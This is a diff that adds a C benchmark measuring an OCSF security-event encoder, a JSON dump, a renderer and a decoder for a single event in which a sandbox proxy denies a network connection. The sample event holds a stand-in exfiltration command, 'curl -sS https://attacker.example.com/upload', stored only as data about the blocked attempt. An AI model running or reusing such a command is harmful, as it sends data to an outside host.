@@ -1,0 +1,495 @@
+/*
+ * bench_ocsf.c: how fast the OCSF hot path is, on one core, in one run.
+ *
+ * One realistic NET:OPEN denied event is encoded, built and dumped with
+ * jansson, copied with memcpy (the limit), rendered as a CLI line and
+ * decoded. Each row runs for BENCH_SECONDS (default 0.5) and reports the
+ * best of 3 repetitions. A benchmark, not a test: it prints numbers and
+ * exits 0 whatever they are; it exits 1 only when an operation fails.
+ * See bench/README.md.
+ */
+#include <inttypes.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/utsname.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <jansson.h>
+
+#include "ocsf/ocsf.h"
+
+#define REPS 3
+#define BATCH 64 /* operations between two clock reads */
+#define GOAL_RATE 1e6
+#define GOAL_RATIO 5.0
+
+#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_UNDEFINED__)
+#define SANITIZED 1
+#elif defined(__has_feature)
+#if __has_feature(address_sanitizer) || __has_feature(undefined_behavior_sanitizer)
+#define SANITIZED 1
+#endif
+#endif
+#ifndef SANITIZED
+#define SANITIZED 0
+#endif
+
+/* Captions the jansson tree needs, looked up once (the encoder looks them up
+ * per event from its tables, so this favours jansson slightly). */
+typedef struct {
+    const char *action, *activity, *class_name, *disposition, *severity, *type_name;
+} caps_t;
+
+typedef struct {
+    ocsf_event_t ev;
+    caps_t caps;
+    ocsf_buf_t out;   /* reused output buffer */
+    ocsf_buf_t json;  /* the event's JSON, encoded once */
+    char *copy;       /* memcpy destination, json.len bytes */
+    bool failed;
+} bench_t;
+
+typedef void (*batch_fn)(bench_t *b, size_t n);
+
+static volatile uint64_t sink; /* every row feeds it so no work is dropped */
+
+/* Tells the compiler that memory behind p is read: the stores stay. */
+static inline void clobber(const void *p)
+{
+    __asm__ volatile("" : : "r"(p) : "memory");
+}
+
+static uint64_t now_ns(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
+}
+
+/* ---- the event ----------------------------------------------------------- */
+
+#define T0 1795737600123LL /* 2026-11-27T00:00:00.123Z */
+
+static const ocsf_product_t proxy = {OCSF_STR("tollgate-proxy"), OCSF_STR(TOLLGATE_VENDOR),
+                                     OCSF_STR(TOLLGATE_VERSION)};
+
+static void build_event(ocsf_event_t *ev)
+{
+    ocsf_event_init(ev);
+    ocsf_event_begin(ev, OCSF_CLASS_NETWORK, OCSF_NET_OPEN, OCSF_SEV_INFO, T0, &proxy);
+    ev->actor.pid = 1310;
+    ev->actor.name = OCSF_STR("curl");
+    ev->actor.cmd_line = OCSF_STR("curl -sS https://attacker.example.com/upload");
+    ocsf_process_set_file(
+        &ev->actor, OCSF_STR("/usr/bin/curl"),
+        OCSF_STR("5f1b1a0e4f5d8c2e7b9a3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"));
+    ev->dst.domain = OCSF_STR("attacker.example.com");
+    ev->dst.ip = OCSF_STR("203.0.113.7");
+    ev->dst.port = 443;
+    ocsf_event_verdict(ev, false, OCSF_NOSTR, OCSF_STR("policy"),
+                       OCSF_STR("endpoint attacker.example.com:443 is not allowed"));
+    ev->device_hostname = OCSF_STR("devbox");
+    ev->device_type_id = OCSF_DEVICE_SERVER;
+    ev->container_name = OCSF_STR("default");
+    ev->container_uid = OCSF_STR("sbx-7f3a9c1e");
+    const uint8_t rnd[16] = {0x9e, 0x10, 0x42, 0x7c, 0x33, 0x01, 0xa5, 0x5a,
+                             0x81, 0x18, 0x27, 0x36, 0x45, 0x54, 0x63, 0x72};
+    ocsf_uuid_v4(rnd, ev->uid);
+    ev->sequence = 1310;
+    ev->logged_time = T0 + 2;
+    ev->log_name = OCSF_STR("sandbox");
+}
+
+/* ---- the same event as a jansson tree ------------------------------------ */
+
+static void jstr(json_t *o, const char *k, ocsf_str_t s)
+{
+    if (s.p)
+        json_object_set_new(o, k, json_stringn(s.p, s.n));
+}
+
+static void jcap(json_t *o, const char *k, const char *cap)
+{
+    if (cap)
+        json_object_set_new(o, k, json_string(cap));
+}
+
+static void jint(json_t *o, const char *k, int64_t v)
+{
+    if (v != OCSF_NONE)
+        json_object_set_new(o, k, json_integer(v));
+}
+
+static json_t *j_process(const ocsf_process_t *p)
+{
+    json_t *hash = json_object(), *file = json_object(), *proc = json_object();
+    jcap(hash, "algorithm", "SHA-256");
+    jint(hash, "algorithm_id", OCSF_HASH_SHA256);
+    jstr(hash, "value", p->sha256);
+    json_t *hashes = json_array();
+    json_array_append_new(hashes, hash);
+    json_object_set_new(file, "hashes", hashes);
+    jstr(file, "name", p->file_name);
+    jstr(file, "path", p->path);
+    jcap(file, "type", "Regular File");
+    jint(file, "type_id", OCSF_FILE_REGULAR);
+    jstr(proc, "cmd_line", p->cmd_line);
+    json_object_set_new(proc, "file", file);
+    jstr(proc, "name", p->name);
+    jint(proc, "pid", p->pid);
+    jstr(proc, "uid", p->uid);
+    return proc;
+}
+
+static json_t *j_device(const ocsf_event_t *ev)
+{
+    json_t *dev = json_object(), *ctr = json_object();
+    jstr(ctr, "name", ev->container_name);
+    jstr(ctr, "uid", ev->container_uid);
+    json_object_set_new(dev, "container", ctr);
+    jstr(dev, "hostname", ev->device_hostname);
+    jstr(dev, "ip", ev->device_ip);
+    jcap(dev, "type", "Server");
+    jint(dev, "type_id", ev->device_type_id);
+    return dev;
+}
+
+static json_t *j_metadata(const ocsf_event_t *ev)
+{
+    json_t *md = json_object(), *prod = json_object(), *prof = json_array();
+    jstr(md, "log_name", ev->log_name);
+    jint(md, "logged_time", ev->logged_time);
+    jstr(prod, "name", ev->product.name);
+    jstr(prod, "vendor_name", ev->product.vendor_name);
+    jstr(prod, "version", ev->product.version);
+    json_object_set_new(md, "product", prod);
+    json_array_append_new(prof, json_string("container"));
+    json_array_append_new(prof, json_string("host"));
+    json_array_append_new(prof, json_string("security_control"));
+    json_object_set_new(md, "profiles", prof);
+    jint(md, "sequence", ev->sequence);
+    jstr(md, "uid", ocsf_str(ev->uid));
+    jcap(md, "version", "1.7.0");
+    return md;
+}
+
+static json_t *j_event(const ocsf_event_t *ev, const caps_t *c)
+{
+    json_t *o = json_object(), *actor = json_object(), *dst = json_object(),
+           *rule = json_object();
+    jcap(o, "action", c->action);
+    jint(o, "action_id", ev->action_id);
+    jint(o, "activity_id", ev->activity_id);
+    jcap(o, "activity_name", c->activity);
+    json_object_set_new(actor, "process", j_process(&ev->actor));
+    json_object_set_new(o, "actor", actor);
+    jcap(o, "category_name", "Network Activity");
+    jint(o, "category_uid", 4);
+    jcap(o, "class_name", c->class_name);
+    jint(o, "class_uid", ev->class_uid);
+    json_object_set_new(o, "device", j_device(ev));
+    jcap(o, "disposition", c->disposition);
+    jint(o, "disposition_id", ev->disposition_id);
+    jstr(dst, "domain", ev->dst.domain);
+    jstr(dst, "ip", ev->dst.ip);
+    jint(dst, "port", ev->dst.port);
+    json_object_set_new(o, "dst_endpoint", dst);
+    jstr(rule, "name", ev->rule_name);
+    jstr(rule, "type", ev->rule_type);
+    jstr(rule, "uid", ev->rule_uid);
+    json_object_set_new(o, "firewall_rule", rule);
+    json_object_set_new(o, "metadata", j_metadata(ev));
+    jcap(o, "severity", c->severity);
+    jint(o, "severity_id", ev->severity_id);
+    jstr(o, "status_detail", ev->status_detail);
+    jint(o, "time", ev->time);
+    jcap(o, "type_name", c->type_name);
+    jint(o, "type_uid", (int64_t)ev->class_uid * 100 + ev->activity_id);
+    return o;
+}
+
+static char *jansson_dump(const bench_t *b)
+{
+    json_t *root = j_event(&b->ev, &b->caps);
+    char *s = json_dumps(root, JSON_COMPACT | JSON_SORT_KEYS);
+    json_decref(root);
+    return s;
+}
+
+/* ---- the rows: each runs n operations ------------------------------------ */
+
+static void run_encode(bench_t *b, size_t n)
+{
+    char err[128];
+    for (size_t i = 0; i < n; i++) {
+        b->out.len = 0;
+        if (ocsf_encode(&b->ev, &b->out, err, sizeof err) != 0)
+            b->failed = true;
+        clobber(b->out.p);
+        sink += b->out.len;
+    }
+}
+
+static void run_jansson(bench_t *b, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        char *s = jansson_dump(b);
+        if (!s) {
+            b->failed = true;
+            return;
+        }
+        clobber(s);
+        sink += (unsigned char)s[0];
+        free(s);
+    }
+}
+
+static void run_memcpy(bench_t *b, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        memcpy(b->copy, b->json.p, b->json.len);
+        clobber(b->copy);
+        sink += (unsigned char)b->copy[i % b->json.len];
+    }
+}
+
+static void run_render(bench_t *b, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        b->out.len = 0;
+        ocsf_render_line(&b->ev, OCSF_LINE_CLI, &b->out);
+        clobber(b->out.p);
+        sink += b->out.len;
+    }
+}
+
+static void run_decode(bench_t *b, size_t n)
+{
+    char err[256];
+    for (size_t i = 0; i < n; i++) {
+        ocsf_event_t ev;
+        if (ocsf_decode(b->json.p, b->json.len, &ev, err, sizeof err) != 0) {
+            b->failed = true;
+            return;
+        }
+        sink += (uint64_t)ev.dst.port;
+        ocsf_event_dispose(&ev);
+    }
+}
+
+/* Best ns per operation over REPS runs of at least `secs` each. */
+static double measure(batch_fn fn, bench_t *b, double secs)
+{
+    uint64_t budget = (uint64_t)(secs * 1e9);
+    double best = 0;
+    fn(b, BATCH); /* warm caches and the allocator */
+    for (int r = 0; r < REPS && !b->failed; r++) {
+        uint64_t ops = 0, t0 = now_ns(), dt;
+        do {
+            fn(b, BATCH);
+            ops += BATCH;
+            dt = now_ns() - t0;
+        } while (dt < budget && !b->failed);
+        double ns = (double)dt / (double)ops;
+        if (r == 0 || ns < best)
+            best = ns;
+    }
+    return best;
+}
+
+/* ---- output -------------------------------------------------------------- */
+
+/* 1234567 -> "1,234,567" */
+static const char *commas(double v, char *out, size_t cap)
+{
+    char digits[32];
+    int n = snprintf(digits, sizeof digits, "%.0f", v);
+    size_t o = 0;
+    for (int i = 0; i < n && o + 2 < cap; i++) {
+        if (i > 0 && (n - i) % 3 == 0)
+            out[o++] = ',';
+        out[o++] = digits[i];
+    }
+    out[o] = '\0';
+    return out;
+}
+
+static void row(const char *name, const char *unit, double ns, size_t bytes)
+{
+    char num[40];
+    double rate = 1e9 / ns;
+    printf("  %-20s %13s %-7s %9.1f ns/ev", name, commas(rate, num, sizeof num), unit, ns);
+    if (bytes)
+        printf("  %8.1f MB/s", rate * (double)bytes / 1e6);
+    printf("\n");
+}
+
+static void goal(const char *name, double value, double want, const char *unit)
+{
+    char a[40], w[40];
+    if (unit[0] == 'x')
+        printf("  %-20s %12.1fx   (goal >= %.0fx: %s)\n", name, value, want,
+               value >= want ? "PASS" : "MISS");
+    else
+        printf("  %-20s %13s %-7s (goal >= %s: %s)\n", name, commas(value, a, sizeof a), unit,
+               commas(want, w, sizeof w), value >= want ? "PASS" : "MISS");
+}
+
+static void cpu_model(char *out, size_t cap)
+{
+    char line[256];
+    snprintf(out, cap, "unknown");
+    FILE *f = fopen("/proc/cpuinfo", "r");
+    if (!f)
+        return;
+    while (fgets(line, sizeof line, f)) {
+        char *colon = strchr(line, ':');
+        bool model = strncmp(line, "model name", 10) == 0 || strncmp(line, "Model", 5) == 0 ||
+                     strncmp(line, "Hardware", 8) == 0;
+        if (model && colon) {
+            colon += strspn(colon + 1, " \t") + 1;
+            snprintf(out, cap, "%.*s", (int)strcspn(colon, "\n"), colon);
+            break;
+        }
+    }
+    fclose(f);
+}
+
+static void print_machine(void)
+{
+    char cpu[128], date[64];
+    struct utsname u;
+    time_t t = time(NULL);
+    struct tm tm;
+    cpu_model(cpu, sizeof cpu);
+    if (uname(&u) != 0)
+        memset(&u, 0, sizeof u);
+    if (!gmtime_r(&t, &tm) || !strftime(date, sizeof date, "%Y-%m-%d %H:%M UTC", &tm))
+        snprintf(date, sizeof date, "unknown");
+    printf("machine\n");
+    printf("  cpu       %s (%ld online, run pinned to cpu %d)\n", cpu,
+           sysconf(_SC_NPROCESSORS_ONLN), sched_getcpu());
+    printf("  kernel    %s %s %s\n", u.sysname, u.release, u.machine);
+    printf("  compiler  %s%s\n", __VERSION__,
+           SANITIZED ? "  (sanitizers on: numbers are not representative)" : "");
+    printf("  jansson   %s\n", JANSSON_VERSION);
+    printf("  date      %s\n\n", date);
+}
+
+/* ---- setup and main ------------------------------------------------------ */
+
+static double bench_seconds(void)
+{
+    const char *s = getenv("BENCH_SECONDS");
+    if (!s || !*s)
+        return 0.5;
+    char *end;
+    double v = strtod(s, &end);
+    if (*end || !(v > 0 && v <= 60)) {
+        fprintf(stderr, "bench_ocsf: BENCH_SECONDS=%s: expected seconds in (0, 60]\n", s);
+        return -1;
+    }
+    return v;
+}
+
+static void pin_to_this_cpu(void)
+{
+    cpu_set_t set;
+    int cpu = sched_getcpu();
+    if (cpu < 0)
+        return;
+    CPU_ZERO(&set);
+    CPU_SET(cpu, &set);
+    if (sched_setaffinity(0, sizeof set, &set) != 0)
+        fprintf(stderr, "bench_ocsf: cannot pin to cpu %d; running unpinned\n", cpu);
+}
+
+/* Encodes once, checks jansson writes the same bytes and decode round-trips. */
+static int setup(bench_t *b)
+{
+    char err[256];
+    build_event(&b->ev);
+    const ocsf_event_t *ev = &b->ev;
+    b->caps = (caps_t){
+        ocsf_caption(ev->class_uid, "action_id", ev->action_id),
+        ocsf_caption(ev->class_uid, "activity_id", ev->activity_id),
+        ocsf_class_name(ev->class_uid),
+        ocsf_caption(ev->class_uid, "disposition_id", ev->disposition_id),
+        ocsf_caption(ev->class_uid, "severity_id", ev->severity_id),
+        ocsf_caption(ev->class_uid, "type_uid", ev->activity_id),
+    };
+    if (ocsf_encode(ev, &b->json, err, sizeof err) != 0) {
+        fprintf(stderr, "bench_ocsf: ocsf_encode: %s\n", err);
+        return -1;
+    }
+    b->copy = malloc(b->json.len);
+    char *j = jansson_dump(b);
+    if (!b->copy || !j) {
+        fprintf(stderr, "bench_ocsf: out of memory\n");
+        free(j);
+        return -1;
+    }
+    bool same = strlen(j) == b->json.len && memcmp(j, b->json.p, b->json.len) == 0;
+    free(j);
+    ocsf_event_t back;
+    if (ocsf_decode(b->json.p, b->json.len, &back, err, sizeof err) != 0) {
+        fprintf(stderr, "bench_ocsf: ocsf_decode of our own JSON: %s\n", err);
+        return -1;
+    }
+    bool round = ocsf_event_equal(&back, ev);
+    ocsf_event_dispose(&back);
+    ocsf_render_line(ev, OCSF_LINE_CLI, &b->out);
+    printf("event      NET:OPEN denied, class 4001: %zu bytes of JSON, %zu-byte CLI line\n",
+           b->json.len, b->out.len);
+    printf("line       %.*s\n", (int)b->out.len, b->out.p);
+    printf("checks     jansson bytes %s ocsf_encode; decode round-trip %s\n\n",
+           same ? "==" : "!= (ratio compares different output)", round ? "equal" : "DIFFERS");
+    return 0;
+}
+
+int main(void)
+{
+    double secs = bench_seconds();
+    if (secs < 0)
+        return 2;
+    pin_to_this_cpu();
+    print_machine();
+    bench_t b = {.failed = false};
+    ocsf_buf_init(&b.out);
+    ocsf_buf_init(&b.json);
+    int rc = 1;
+    if (setup(&b) != 0)
+        goto out;
+    printf("one core, best of %d x %.2f s per row\n", REPS, secs);
+    double enc = measure(run_encode, &b, secs);
+    double jan = measure(run_jansson, &b, secs);
+    double cpy = measure(run_memcpy, &b, secs);
+    double ren = measure(run_render, &b, secs);
+    double dec = measure(run_decode, &b, secs);
+    if (b.failed) {
+        fprintf(stderr, "bench_ocsf: an operation failed during the run\n");
+        goto out;
+    }
+    row("ocsf encoder", "ev/s", enc, b.json.len);
+    row("jansson build+dump", "ev/s", jan, b.json.len);
+    row("memcpy (limit)", "ev/s", cpy, b.json.len);
+    row("render CLI line", "lines/s", ren, b.out.len);
+    row("decode+dispose", "ev/s", dec, b.json.len);
+    printf("\n");
+    goal("ratio ours/jansson", jan / enc, GOAL_RATIO, "x");
+    printf("  %-20s %12.1fx   (the encoder costs that many copies of its output)\n",
+           "ratio memcpy/ours", enc / cpy);
+    goal("encoder", 1e9 / enc, GOAL_RATE, "ev/s");
+    goal("renderer", 1e9 / ren, GOAL_RATE, "lines/s");
+    printf("  (goals are informational; the exit status ignores them)\n");
+    rc = 0;
+out:
+    free(b.copy);
+    ocsf_buf_dispose(&b.json);
+    ocsf_buf_dispose(&b.out);
+    ocsf_event_dispose(&b.ev);
+    return rc;
+}
